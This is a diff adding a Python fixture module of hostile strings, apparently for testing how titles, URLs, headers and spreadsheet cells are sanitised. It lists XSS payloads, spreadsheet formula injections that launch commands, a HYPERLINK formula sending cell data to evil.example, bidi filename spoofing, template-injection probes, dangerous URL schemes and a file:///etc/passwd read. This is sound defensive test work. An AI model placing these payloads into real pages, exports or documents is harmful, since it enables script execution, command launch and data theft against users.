@@ -1,0 +1,45 @@
+"""What hostile sites put into titles, addresses, headers and cells."""
+
+from __future__ import annotations
+
+HOSTILE = (
+    "<script>alert(document.domain)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'-alert(1)-'",
+    "javascript:alert(1)",
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+62 812=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "Dokumen \u202efdp.exe\u202c akhir",
+    "\u2067مستند الميزانية\u2069 RKA 2024",
+    "\x00\x07\x1b[31mmerah\x1b[0m\x9b",
+    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
+    "</title></style></textarea><svg onload=alert(1)>",
+    "&lt;b&gt; &amp;#x3c;script&#x3e;",
+    "😀👩‍👩‍👧‍👦 Laporan 🇮🇩 कार्य 文書",
+    "]]><!--<x>-->",
+    "A" * 10_000,
+    "kata " * 2_000,
+    "100% %(tidak)s %s {kosong}",
+    "\ud800 surrogat",
+)
+HOSTILE_URLS = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\nscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "//evil.example/x",
+    "https://",
+    "https:\\\\evil.example",
+    "https://user:pass@evil.example/",
+    'https://ppid.contoh.example/a?b="><script>alert(1)</script>',
+    "https://ppid.contoh.example/'onmouseover='alert(1)",
+    "https://ppid.contoh.example/" + "a" * 9_000,
+    "http://[::1",
+)
